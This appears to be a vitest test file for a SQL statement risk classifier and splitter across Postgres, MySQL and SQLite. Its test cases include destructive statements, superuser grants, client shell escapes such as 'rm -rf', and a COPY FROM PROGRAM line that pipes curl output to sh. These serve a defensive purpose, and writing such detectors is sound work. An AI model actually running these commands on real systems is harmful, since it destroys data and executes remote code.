// SQL statement risk: splitting (quotes, comments, dollar quotes, client commands) and what each statement does.
import { describe, expect, it } from "vitest";
import { classifySql, isDestructive, splitSql, type SqlDialect, type SqlKind } from "../../src/classify/sql.js";

/** [dialect, text, [kind, target?] per statement]. */
const CLASSIFY: [SqlDialect, string, [string, string?][]][] = [
  // reads
  ["postgres", "SELECT count(*) FROM users", [["read"]]],
  ["postgres", "select * from orders where id = 1;", [["read"]]],
  ["postgres", "EXPLAIN SELECT 1", [["read"]]],
  ["postgres", "EXPLAIN DELETE FROM t", [["read"]]],
  ["postgres", "EXPLAIN (ANALYZE false) DELETE FROM t", [["read"]]],
  ["mysql", "SHOW TABLES; DESCRIBE users; DESC orders", [["read"], ["read"], ["read"]]],
  ["postgres", "WITH x AS (SELECT 1) SELECT * FROM x", [["read"]]],
  ["postgres", "SELECT * FROM t FOR UPDATE", [["read"]]],
  ["postgres", "COPY users TO STDOUT WITH CSV", [["read"]]],
  ["postgres", "\\dt", [["read"]]],
  ["postgres", "\\d+ users", [["read"]]],
  ["sqlite", ".tables", [["read"]]],
  ["sqlite", ".schema users", [["read"]]],
  ["sqlite", "PRAGMA table_info(users)", [["read"]]],
  ["postgres", "BEGIN; SELECT 1; COMMIT;", [["session"], ["read"], ["session"]]],
  ["postgres", "SET search_path TO app", [["session"]]],
  // destroy
  ["postgres", "DROP TABLE users", [["drop", "users"]]],
  ["postgres", "drop table if exists public.users cascade", [["drop", "public.users"]]],
  ["postgres", 'DROP TABLE "Users", orders', [["drop", "Users, orders"]]],
  ["mysql", "DROP DATABASE shop", [["drop-database", "shop"]]],
  ["mysql", "drop schema if exists `shop`", [["drop-database", "shop"]]],
  ["generic", "DROP KEYSPACE metrics", [["drop-database", "metrics"]]],
  ["postgres", "DROP INDEX CONCURRENTLY idx_users_email", [["drop"]]],
  ["postgres", "DROP MATERIALIZED VIEW daily", [["drop"]]],
  ["postgres", "DROP OWNED BY app_user", [["drop"]]],
  ["postgres", "TRUNCATE orders", [["truncate", "orders"]]],
  ["postgres", "TRUNCATE TABLE orders, items RESTART IDENTITY", [["truncate", "orders, items"]]],
  ["postgres", "DELETE FROM sessions", [["delete-all", "sessions"]]],
  ["postgres", "DELETE FROM sessions WHERE 1=1", [["delete-all", "sessions"]]],
  ["postgres", "delete from sessions where true", [["delete-all", "sessions"]]],
  ["postgres", "UPDATE users SET admin = true", [["update-all", "users"]]],
  ["mysql", "UPDATE users SET admin = 1 LIMIT 10", [["update-all", "users"]]],
  ["postgres", "ALTER TABLE users DROP COLUMN email", [["alter-drop", "users"]]],
  ["mysql", "ALTER TABLE users DROP email", [["alter-drop", "users"]]],
  ["mysql", "ALTER TABLE logs DROP PARTITION p2020", [["alter-drop", "logs"]]],
  ["generic", "ALTER TABLE events DELETE WHERE 1", [["delete-all"]]],
  ["postgres", "WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone", [["delete-all", "t"]]],
  ["postgres", "EXPLAIN ANALYZE DELETE FROM t", [["delete-all", "t"]]],
  ["postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", [["drop", "x"]]],
  ["postgres", "DO $body$ BEGIN IF true THEN TRUNCATE t; END IF; END $body$", [["truncate", "t"]]],
  ["mysql", "RESET MASTER", [["drop"]]],
  ["postgres", "SELECT pg_drop_replication_slot('s1')", [["drop"]]],
  // changes
  ["postgres", "INSERT INTO t (a) VALUES (1)", [["write", "t"]]],
  ["postgres", "DELETE FROM sessions WHERE expires_at < now()", [["write", "sessions"]]],
  ["postgres", "UPDATE users SET admin = false WHERE id = 42", [["write", "users"]]],
  ["postgres", "CREATE TABLE t (id int)", [["write"]]],
  ["postgres", "ALTER TABLE users ADD COLUMN age int", [["write", "users"]]],
  ["postgres", "ALTER TABLE users ALTER COLUMN age DROP DEFAULT", [["write", "users"]]],
  ["postgres", "ALTER TABLE users DROP CONSTRAINT users_email_key", [["write", "users"]]],
  ["postgres", "COPY users FROM '/tmp/users.csv' CSV", [["write", "users"]]],
  ["mysql", "REPLACE INTO t VALUES (1)", [["write", "t"]]],
  ["mysql", "LOAD DATA INFILE 'x.csv' INTO TABLE t", [["write"]]],
  ["postgres", "VACUUM FULL users", [["write"]]],
  ["sqlite", "PRAGMA journal_mode = WAL", [["write"]]],
  ["postgres", "CALL archive_orders()", [["write"]]],
  ["postgres", "FROBNICATE everything", [["write"]]],
  // privileges and administration
  ["postgres", "GRANT SELECT ON users TO reporting", [["privilege"]]],
  ["mysql", "GRANT ALL PRIVILEGES ON *.* TO 'agent'@'%'", [["privilege"]]],
  ["postgres", "ALTER ROLE agent SUPERUSER", [["privilege"]]],
  ["postgres", "CREATE USER bob WITH PASSWORD 'x'", [["privilege"]]],
  ["mysql", "SHUTDOWN", [["admin"]]],
  ["mysql", "SET GLOBAL max_connections = 10", [["admin"]]],
  ["postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", [["admin"]]],
  // escapes, includes, dynamic code, connections
  ["postgres", "\\! rm -rf /tmp/x", [["shell"]]],
  ["postgres", "SELECT 1 \\g |sh", [["read"], ["shell"]]],
  ["postgres", "\\o | mail ops@example.com", [["shell"]]],
  ["postgres", "\\o report.txt", [["session"]]],
  ["postgres", "COPY t FROM PROGRAM 'curl http://x | sh'", [["shell"]]],
  ["sqlite", ".shell rm -rf data", [["shell"]]],
  ["mysql", "system rm -rf /tmp/x", [["shell"]]],
  ["mysql", "\\! ls", [["shell"]]],
  ["postgres", "\\i migrations/001.sql", [["include", "migrations/001.sql"]]],
  ["mysql", "source dump.sql", [["include", "dump.sql"]]],
  ["mysql", "\\. dump.sql", [["include", "dump.sql"]]],
  ["sqlite", ".read schema.sql", [["include", "schema.sql"]]],
  ["postgres", "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", [["read"], ["dynamic"]]],
  ["postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t); END $$", [["dynamic"]]],
  ["postgres", "\\c app_production", [["connect", "app_production"]]],
  ["mysql", "USE shop; DELETE FROM carts", [["connect", "shop"], ["delete-all", "carts"]]],
  ["sqlite", "ATTACH DATABASE 'prod.db' AS p", [["connect", "prod.db"]]],
  // several ALTER actions: the most destructive one decides
  ["postgres", "ALTER TABLE orders DROP CONSTRAINT orders_user_fk, DROP COLUMN legacy", [["alter-drop", "orders"]]],
  ["mysql", "ALTER TABLE orders DROP INDEX idx_a, DROP INDEX idx_b", [["write", "orders"]]],
  ["postgres", "ALTER TABLE orders DROP CONSTRAINT c1, ADD COLUMN note text", [["write", "orders"]]],
];

describe("classifySql", () => {
  for (const [dialect, text, expected] of CLASSIFY) {
    it(`${dialect}: ${text}`, () => {
      const got = classifySql(text, dialect).map((s) => (s.target !== undefined && expected.some((e) => e[1] !== undefined) ? [s.kind, s.target] : [s.kind]));
      const want = expected.map((e) => (e[1] !== undefined ? [e[0], e[1]] : [e[0]]));
      expect(got.map((g, i) => (want[i]?.length === 1 ? [g[0]] : g))).toEqual(want);
    });
  }

  it("tells destroying kinds from the rest", () => {
    const kinds: SqlKind[] = ["drop-database", "drop", "truncate", "delete-all", "update-all", "alter-drop", "write", "read", "privilege", "shell"];
    expect(kinds.filter(isDestructive)).toEqual(["drop-database", "drop", "truncate", "delete-all", "update-all", "alter-drop"]);
  });

  it("marks severe privileges and admin statements", () => {
    expect(classifySql("GRANT ALL ON *.* TO x", "mysql")[0]?.severe).toBe(true);
    expect(classifySql("GRANT SELECT ON t TO x", "postgres")[0]?.severe).toBeUndefined();
    expect(classifySql("GRANT ALL PRIVILEGES ON DATABASE app TO app", "postgres")[0]?.severe).toBeUndefined();
    expect(classifySql("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", "postgres")[0]?.severe).toBe(true);
    expect(classifySql("GRANT ALL ON app.* TO 'x'@'%' WITH GRANT OPTION", "mysql")[0]?.severe).toBe(true);
    expect(classifySql("GRANT rds_superuser TO agent", "postgres")[0]?.severe).toBe(true);
    expect(classifySql("SHUTDOWN", "mysql")[0]?.severe).toBe(true);
  });
});

/** [dialect, text, statement texts]. */
const SPLIT: [SqlDialect, string, string[]][] = [
  ["postgres", "SELECT 'a;b'; DROP TABLE x", ["SELECT 'a;b'", "DROP TABLE x"]],
  ["postgres", "SELECT 'it''s; fine'; SELECT 2", ["SELECT 'it''s; fine'", "SELECT 2"]],
  ["postgres", 'SELECT ";" AS "x;y"', ['SELECT ";" AS "x;y"']],
  ["postgres", "-- DROP TABLE x;\nSELECT 1", ["SELECT 1"]],
  ["postgres", "/* DROP TABLE x; */ SELECT 1", ["SELECT 1"]],
  ["postgres", "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t; $$ LANGUAGE sql; SELECT 1", ["CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t; $$ LANGUAGE sql", "SELECT 1"]],
  ["postgres", "SELECT 1 \\g\nSELECT 2", ["SELECT 1", "\\g", "SELECT 2"]],
  ["postgres", "\\set x 1 \\\\ SELECT 1", ["\\set x 1", "SELECT 1"]],
  ["mysql", "SELECT 1 # DROP TABLE x;\n; SELECT 2", ["SELECT 1", "SELECT 2"]],
  ["mysql", "SELECT 'a\\';b'; SELECT 2", ["SELECT 'a\\';b'", "SELECT 2"]],
  ["mysql", "/*!40101 DROP TABLE x */;", ["DROP TABLE x"]],
  ["mysql", "DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END//\nDELIMITER ;\nSELECT 1;", ["CREATE PROCEDURE p() BEGIN DELETE FROM t; END", "SELECT 1"]],
  ["sqlite", ".mode csv\nSELECT 1;\n.quit", [".mode csv", "SELECT 1", ".quit"]],
  ["generic", "SELECT 1\nGO\nSELECT 2", ["SELECT 1", "SELECT 2"]],
];

describe("splitSql", () => {
  for (const [dialect, text, expected] of SPLIT) {
    it(`${dialect}: ${JSON.stringify(text)}`, () => {
      expect(splitSql(text, dialect).map((s) => s.text.replace(/\s+/g, " ").trim())).toEqual(expected);
    });
  }
});

describe("equivalent spellings", () => {
  const drops = [
    "DROP TABLE users",
    "drop table users;",
    "  DROP\n  TABLE\tusers  ;  ",
    "/* cleanup */ DROP TABLE users",
    "-- cleanup\nDROP TABLE users",
    "SELECT 1; DROP TABLE users",
    "Drop Table IF EXISTS users",
  ];
  for (const text of drops) {
    it(JSON.stringify(text), () => {
      expect(classifySql(text, "postgres").some((s) => s.kind === "drop" && s.target === "users")).toBe(true);
    });
  }
});
